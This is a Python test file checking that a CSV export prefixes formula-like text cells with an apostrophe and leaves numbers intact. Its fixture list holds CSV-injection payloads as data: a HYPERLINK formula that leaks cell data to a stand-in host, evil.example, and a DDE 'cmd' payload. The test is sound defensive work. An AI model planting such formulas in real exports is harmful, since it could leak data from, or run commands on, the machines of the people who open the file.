"""`loyalty export` CSV is safe to open in a spreadsheet (SQLite and PostgreSQL): a text cell a
user wrote that starts like a formula (`=`, `+`, `-`, `@`, tab, CR) is prefixed with `'`;
numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv

from storage.checkins import record_checkin
from storage.db import session_scope
from storage.export import export_team
from storage.models import CheckIn
from storage.objectives import KeyResultInput
from tests.conftest import ALICE
from tests.support.factories import TEAM, department, objective

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]
# Commands strip surrounding whitespace; data that came another way may still start with one.
WHITESPACE_FORMULAS = ["\t=1+1", "\r=1+1"]


def read(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_export_defuses_formula_text_and_keeps_numbers(engine, tmp_path):
    out = tmp_path / "export"
    dept = department(engine, "+Support", heads=(ALICE,))
    _, (kr,) = objective(
        engine,
        dept,
        owner=ALICE,
        title="=1+2 delight",
        krs=[KeyResultInput(title="-churn", baseline=-5, target=-1.5, unit="pts")],
    )
    with session_scope(engine) as s:
        for value, note in zip([-3, -2.5, 0, -1], FORMULAS, strict=True):
            record_checkin(s, team_id=TEAM, user_id=ALICE, is_admin=False, ref=f"KR-{kr.number}",
                           value=value, confidence=7, note=note)  # fmt: skip
        for note in WHITESPACE_FORMULAS:
            s.add(CheckIn(team_id=TEAM, key_result_id=kr.id, author_id=ALICE, value=-4,
                          confidence=7, note=note))  # fmt: skip

    export_team(engine, team_id=TEAM, out_dir=out)

    checkins = read(out / "checkin.csv")
    assert [r["note"] for r in checkins] == ["'" + f for f in FORMULAS + WHITESPACE_FORMULAS]
    # Numeric columns are written as numbers, never quoted into text.
    assert [float(r["value"]) for r in checkins] == [-3, -2.5, 0, -1, -4, -4]
    assert all(not r["value"].startswith("'") for r in checkins)
    assert {r["confidence"] for r in checkins} == {"7"}
    (key_result,) = read(out / "keyresult.csv")
    assert float(key_result["baseline"]) == -5 and float(key_result["target"]) == -1.5
    assert float(key_result["current_value"]) == -1
    assert key_result["title"] == "'-churn"
    assert read(out / "department.csv")[0]["name"] == "'+Support"
    assert read(out / "objective.csv")[0]["title"] == "'=1+2 delight"
    # Ordinary text and ids are written as they are.
    assert key_result["unit"] == "pts" and key_result["owner_id"] == ALICE
    assert all(r["team_id"] == TEAM for r in checkins)
